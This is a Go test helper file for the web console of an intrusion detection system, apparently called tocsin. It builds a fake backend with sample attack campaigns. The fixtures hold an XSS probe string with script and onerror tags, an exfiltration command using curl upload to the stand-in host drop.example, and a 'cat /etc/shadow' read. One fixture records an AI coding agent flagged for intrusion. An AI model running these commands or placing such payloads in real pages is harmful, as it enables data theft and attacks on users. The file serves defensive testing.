package console

import (
	"context"
	"fmt"
	"io"
	"iter"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/tocsin-ids/tocsin"
	"github.com/tocsin-ids/tocsin/feed"
	"github.com/tocsin-ids/tocsin/report"
)

// evil is what an intruder could write into a log to be taken for markup.
const evil = `<img src=x onerror=alert(1)><script>alert(2)</script>"'&` + "\u202e\x1b[31m"

var begin = time.Date(2026, 3, 1, 8, 0, 0, 0, time.UTC)

// A fakeRun holds what a test puts into it.
type fakeRun struct {
	mu          sync.Mutex
	told        []Told
	principals  []*tocsin.Principal
	matches     []*tocsin.Match
	events      []*tocsin.Event
	acts        []Act
	suppressed  []Suppression
	unready     bool
	auditFails  error
	sources     []feed.Stat
	rules       []RuleCost
	incidents   []Incident
	reportFails error
	searchTakes time.Duration
	statusTakes time.Duration
	tried       []Trial
	tryFails    error
}

func (f *fakeRun) Campaigns(_ context.Context, q Query) (page []Told, next string, err error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	from := 0
	if q.Cursor != "" {
		if from, err = strconv.Atoi(q.Cursor); err != nil || from < 0 {
			return nil, "", fmt.Errorf("%w: cursor", ErrRefused)
		}
	}
	var all []Told
	for _, t := range f.told {
		if t.Campaign.Level >= q.Level && !t.Updated.Before(q.Since) && (q.Status == "" || q.Status == t.status()) && (q.Tenant == "" || q.Tenant == t.Tenant) {
			all = append(all, t)
		}
	}
	slices.SortStableFunc(all, func(a, b Told) int { return b.Updated.Compare(a.Updated) })
	all = all[min(from, len(all)):]
	if q.Limit == 0 {
		q.Limit = 100
	}
	if len(all) > q.Limit {
		return all[:q.Limit], strconv.Itoa(from + q.Limit), nil
	}
	return all, "", nil
}

func (f *fakeRun) Campaign(_ context.Context, tenant, id string) (*Told, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for i := range f.told {
		if t := f.told[i]; (tenant == "" || tenant == t.Tenant) && (t.Campaign.ID == id || slices.Contains(t.Campaign.Was, id)) {
			return &t, nil
		}
	}
	return nil, fmt.Errorf("campaign %s: %w", id, ErrNotFound)
}

func (f *fakeRun) Principals(string) []*tocsin.Principal {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.principals
}

func (f *fakeRun) Matches(_ context.Context, q MatchQuery) ([]*tocsin.Match, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.matches[max(0, len(f.matches)-q.Limit):], nil
}

func (f *fakeRun) Ready() bool           { return !f.unready }
func (f *fakeRun) Sources() []feed.Stat  { return f.sources }
func (f *fakeRun) Rules() []RuleCost     { return f.rules }
func (f *fakeRun) Incidents() []Incident { return f.incidents }
func (f *fakeRun) Numbers() Numbers {
	return Numbers{Events: 12345, Lag: map[string]time.Duration{"decode": time.Second}, Dropped: map[string]int64{"late": 3}, Memory: 1 << 20, Pages: 2, Turns: 9, GivenUp: map[string]int64{"pager": 4}}
}

func (f *fakeRun) Search(ctx context.Context, q SearchQuery) iter.Seq2[*tocsin.Event, error] {
	return func(yield func(*tocsin.Event, error) bool) {
		if err := takes(ctx, f.searchTakes); err != nil {
			yield(nil, err)
			return
		}
		n := 0
		for _, ev := range f.events {
			if !q.From.IsZero() && ev.Time.Before(q.From) || !q.To.IsZero() && ev.Time.After(q.To) || q.Text != "" && !strings.Contains(ev.Raw, q.Text) {
				continue
			}
			if slices.ContainsFunc(q.Fields, func(x tocsin.Field) bool { return ev.Text(x.Name) != x.Value }) {
				continue
			}
			if n++; n > q.Limit || !yield(ev, nil) {
				return
			}
		}
	}
}

func (f *fakeRun) Record(_ context.Context, _ string, at tocsin.Place) (*tocsin.Event, error) {
	for _, ev := range f.events {
		if ev.Source == at.Source && ev.Record == at.Record {
			return ev, nil
		}
	}
	return nil, ErrNotFound
}

func (f *fakeRun) Report(ctx context.Context, w io.Writer, q ReportQuery) error {
	if f.reportFails != nil {
		return f.reportFails
	}
	t, err := f.Campaign(ctx, q.Tenant, q.ID)
	if err != nil {
		return err
	}
	h := &report.Hunt{Campaigns: []*tocsin.Campaign{t.Campaign}}
	switch q.Format {
	case "html":
		return report.HTML(w, h, "")
	case "markdown":
		return report.Incident(w, h, q.Lang)
	case "stix":
		return report.STIX(w, h)
	}
	return report.JSONL(w, h)
}

// takes waits, unless who asks goes away before.
func takes(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-time.After(d):
		return nil
	}
}

func (f *fakeRun) SetStatus(ctx context.Context, who string, s StatusChange) error {
	if err := takes(ctx, f.statusTakes); err != nil {
		return err
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	for i := range f.told {
		if t := &f.told[i]; t.Campaign.ID == s.ID {
			t.Status, t.Note, t.By, t.Updated = s.Status, s.Note, who, t.Updated.Add(time.Second)
		}
	}
	return nil
}

func (f *fakeRun) Suppress(_ context.Context, _ string, s Suppression) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.suppressed = append(f.suppressed, s)
	return nil
}

func (f *fakeRun) Audit(_ context.Context, a Act) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.auditFails != nil {
		return f.auditFails
	}
	f.acts = append(f.acts, a)
	return nil
}

// did is what was noted, without searches.
func (f *fakeRun) did() (all []string) {
	f.mu.Lock()
	defer f.mu.Unlock()
	for _, a := range f.acts {
		all = append(all, a.Who+" "+a.What+" "+a.On)
	}
	return all
}

func place(n uint64) tocsin.Place {
	return tocsin.Place{Time: begin.Add(time.Duration(n) * time.Second), Source: "/var/log/auth.log", Record: n}
}

// sampleCampaign is one with every part that a page shows, with markup in what a log could hold.
func sampleCampaign(id, host string, level tocsin.Level) *tocsin.Campaign {
	actor := &tocsin.Actor{ID: "address:198.51.100.7", Handles: []tocsin.Entity{{Kind: "address", Value: "198.51.100.7"}, {Kind: "user", Value: "deploy" + evil}}, First: begin, Last: begin.Add(time.Hour), Driver: tocsin.Agent,
		Tempo: tocsin.Tempo{Actions: 140, Busy: time.Hour, Peak1s: 4, Peak10s: 20, Peak60s: 60, Gaps: []time.Duration{time.Second, 2 * time.Second, 9 * time.Second, time.Minute}, Occupancy: .9, Unique: .97, Tools: 7, Targets: 3, Failed: .2, Changed: .9, PerMinute: []int{4, 9, 30, 2, 8}},
		Share: map[string]float64{"human": .02, "script": .1, "agent": .88}, Evidence: []tocsin.Evidence{{Feature: "prior", Seen: "no evidence yet", Human: -1, Script: -1, Agent: -1.2}, {Feature: "texts", Seen: "97 % of 140 texts are distinct", Human: -2, Script: -4, Agent: -.3}}}
	return &tocsin.Campaign{ID: id, Title: "Intrusion into " + host + ": initial access and exfiltration", Level: level, Why: "five tactics or more were carried out, as far as taking data together or further",
		First: begin, Last: begin.Add(time.Hour), Actions: 140, Alerts: 12, Orgs: []string{"clinic.example"}, Driver: tocsin.Agent, Judged: 140, Share: map[string]float64{"agent": .88, "script": .1, "human": .02}, Autonomy: &tocsin.Share{Value: .93, Low: .85, High: .98},
		Key:    []tocsin.KeyEvent{{Kind: "entry", Time: begin, Host: host, Account: "deploy", From: "198.51.100.7", What: "Accepted publickey for deploy " + evil, Outcome: tocsin.Worked, Places: []tocsin.Place{place(3), place(4)}}, {Kind: "sent", Time: begin.Add(time.Hour), Host: host, What: "curl -T /tmp/a.tgz https://drop.example", On: []string{"host:drop.example"}, Outcome: tocsin.Worked, Places: []tocsin.Place{place(90)}}},
		Used:   []tocsin.Indicator{{Entity: tocsin.Entity{Kind: "address", Role: "source", Value: "198.51.100.7"}, Why: "came from there", First: begin, Last: begin.Add(time.Hour), Place: place(3)}},
		Actors: []*tocsin.Actor{actor}, Steps: []tocsin.Step{
			{Tactic: "initial-access", Techniques: []string{"T1078"}, First: begin, Last: begin.Add(time.Minute), Actions: 3, Worked: 2, Failed: 1, Actors: []string{actor.ID}, Hosts: []string{host}, Summary: "login as deploy", Places: []tocsin.Place{place(3)}, Commands: []string{"ssh deploy@" + host}},
			{Tactic: "discovery", First: begin.Add(20 * time.Minute), Last: begin.Add(40 * time.Minute), Actions: 90, Worked: 80, Failed: 10, Actors: []string{actor.ID}, Hosts: []string{host}, Summary: "id " + evil, Places: []tocsin.Place{place(20)}},
			{Tactic: "exfiltration", First: begin.Add(50 * time.Minute), Last: begin.Add(time.Hour), Actions: 9, Worked: 9, Actors: []string{actor.ID}, Hosts: []string{host}, Summary: "curl -T /tmp/a.tgz https://drop.example", Places: []tocsin.Place{place(90)}}},
		Victims: []tocsin.Victim{{Entity: tocsin.Entity{Kind: "host", Value: host}, Org: "clinic.example", Reached: true, Why: "login as deploy", First: begin, Last: begin.Add(time.Hour), Tactics: []string{"initial-access", "discovery", "exfiltration"}, Actions: 140}, {Entity: tocsin.Entity{Kind: "host", Value: "db2"}, Org: "clinic.example", First: begin, Last: begin.Add(time.Hour), Tactics: []string{"discovery"}, Actions: 4}},
		Gates:   []tocsin.Gate{{Quiet: begin.Add(2 * time.Minute), Time: begin.Add(20 * time.Minute), Change: "another phase", Weight: 2.1}},
		Data:    []string{"/srv/patients.csv read"}, Open: []string{"Whether drop.example was spoken to by others."}, Rules: []string{"SSH login from a new address"},
		Records: []tocsin.Span{{Source: "/var/log/auth.log", From: 1, To: 100}}}
}

var sampleRule = &tocsin.Rule{ID: "rule-1", Title: "SSH login from a new address", Level: tocsin.High, Tags: []string{"attack.initial-access", "attack.t1078"}}

func sampleMatch(n int) *tocsin.Match {
	return &tocsin.Match{Time: place(uint64(n)).Time, Rule: sampleRule,
		Event: sampleEvent(n), Held: []tocsin.Field{{Name: "user", Value: "deploy"}}}
}

func sampleEvent(n int) *tocsin.Event {
	at := place(uint64(n))
	raw := fmt.Sprintf("Mar  1 08:00:00 web1 sshd[%d]: Accepted publickey for deploy %s", n, evil)
	return &tocsin.Event{Time: at.Time, Source: at.Source, Record: at.Record, Format: "syslog", Host: "web1", Raw: raw, Fields: []tocsin.Field{{Name: "user", Value: "deploy"}, {Name: "message", Value: raw}}}
}

func sampleRun() *fakeRun {
	f := &fakeRun{}
	for i, host := range []string{"web1", "mail" + evil, "files"} {
		f.told = append(f.told, Told{Tenant: "clinic", Campaign: sampleCampaign(fmt.Sprintf("c-00000000000%d", i), host, tocsin.Critical-tocsin.Level(i)), Updated: begin.Add(time.Duration(i) * time.Minute)})
	}
	f.told[2].Campaign.Was = []string{"c-was000000000"}
	for i := 1; i <= 40; i++ {
		f.matches = append(f.matches, sampleMatch(i))
		f.events = append(f.events, sampleEvent(i))
	}
	for i := 41; i <= 120; i++ {
		f.events = append(f.events, sampleEvent(i))
	}
	ground := tocsin.Ground{ID: "reads-hashes", Weight: 2.5, Sentence: "Hashes of accounts read " + evil, Call: 7, Session: "s1", Quote: "cat /etc/shadow", Place: tocsin.Place{Time: begin, Source: "sessions/a.jsonl", Record: 14}}
	f.principals = []*tocsin.Principal{{Name: "org-7/key-3" + evil, By: "account", Agents: []string{"claude-code"}, Sessions: []string{"s1"}, Calls: 31, First: begin, Last: begin.Add(time.Hour), Verdict: tocsin.Intrusion, Score: 2.5, FirstAlert: 7, Targets: []string{"192.0.2.10"},
		ByTarget: []tocsin.TargetVerdict{{Target: "192.0.2.10", Verdict: tocsin.Intrusion, Score: 2.5, Phases: []string{"discovery", "credential-access"}, Evidence: []tocsin.Ground{ground}, Course: []tocsin.Ground{ground}}}, Evidence: []tocsin.Ground{ground}, Sight: tocsin.Visibility{State: "full"}},
		{Name: "org-7/key-9", By: "account", Sessions: []string{"s2"}, Calls: 3, Verdict: tocsin.Ordinary}}
	f.sources = []feed.Stat{{ID: "file:/var/log/auth.log", Kind: "file", Path: "/var/log/auth.log", State: "following", Read: 123456, Behind: 0, Last: begin}, {ID: "syslog:udp", Kind: "syslog", State: "listening", Behind: -1, Lost: 12}, {ID: "x", Kind: "file", Path: "/var/log/" + evil, State: "broken", Why: "permission denied: add the user to group adm" + evil}}
	f.rules = []RuleCost{{"rule-1", "SSH login from a new address", tocsin.High, 40, 12 * time.Millisecond, ""}, {"rule-2", "Slow " + evil, tocsin.Low, 0, time.Second, "it took 40 % of the time"}}
	f.incidents = []Incident{{ID: "1", Time: begin, Kind: "silent", Source: "/var/log/auth.log", What: "Nothing was received for two hours " + evil, Hint: "see whether the service runs"}}
	return f
}

// newConsole is one over a run, closed with the test.
func newConsole(t testing.TB, f *fakeRun, change func(*Options)) *Console {
	t.Helper()
	o := Options{Run: f, Version: "test"}
	if change != nil {
		change(&o)
	}
	c, err := New(o)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(c.Close)
	return c
}
